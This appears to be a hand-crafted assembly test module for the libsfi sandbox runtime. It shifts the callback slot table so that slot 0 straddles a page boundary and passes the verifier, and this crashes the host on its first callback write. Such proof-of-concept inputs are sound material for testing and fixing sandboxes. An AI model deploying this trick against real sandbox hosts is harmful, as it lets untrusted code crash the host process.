# cbstraddle.s: the libsfi crt (runtime/crt/crt.S, preprocessed) with one
# change: __sfi_cb_slots starts 4 bytes before a page boundary inside
# RELRO, so callback slot 0 straddles two pages (nothing requires the slots
# to be 8-aligned: find_specials checks only that they lie inside RELRO).
# The table entries still `jmp *slot(%rip)`, so the verifier and
# callback.c's entry_ok accept them. An honest host's first
# sfi_callback_new() then runs write_slot(), which makes only
# PAGE_DOWN(slot) writable and memcpy()s 8 bytes across into the next,
# read-only page: SIGSEGV in host code, the host dies.
# Linked INSTEAD of sfi_crt.o, followed by cbstraddle_mod.s.
 .section sfi_jt,"axR",@progbits
        .p2align 4
__sfi_jt_trap:
        ud2
        .fill (1u << 4) - 2, 1, 0xcc
        .set .Lslot, 0
        .rept 64
        jmp *(.Lcb_slots + 8 * .Lslot)(%rip)
        .p2align 4, 0xcc
        .set .Lslot, .Lslot + 1
        .endr
        .text
        .p2align 4
.Lcb_unset:
        ud2
        int3
        .section .data.rel.ro,"aw",@progbits
        .p2align 12
        .fill 4092, 1, 0
        .globl __sfi_cb_slots
        .type __sfi_cb_slots,@object
        .size __sfi_cb_slots, 8 * 64
__sfi_cb_slots:
.Lcb_slots:
        .rept 64
        .quad .Lcb_unset
        .endr
        .globl __sfi_jt_bounds
        .type __sfi_jt_bounds,@object
        .size __sfi_jt_bounds, 16
        .hidden __start_sfi_jt
        .hidden __stop_sfi_jt
__sfi_jt_bounds:
        .quad __start_sfi_jt
        .quad __stop_sfi_jt
        .fill 8192, 1, 0
        .data
        .p2align 3
        .globl __sfi_ssp
        .type __sfi_ssp,@object
        .size __sfi_ssp, 8
__sfi_ssp:
        .quad 0
        .globl __sfi_ssp_limit
        .type __sfi_ssp_limit,@object
        .size __sfi_ssp_limit, 8
__sfi_ssp_limit:
        .quad 0
        .section .note.sfi,"a",@note
        .p2align 2
        .long 8
        .long 16
        .long 0x53464931u
        .asciz "libsfi"
        .byte 0
        .long 1u, 0, 0, 1u
        .section .note.GNU-stack,"",@progbits
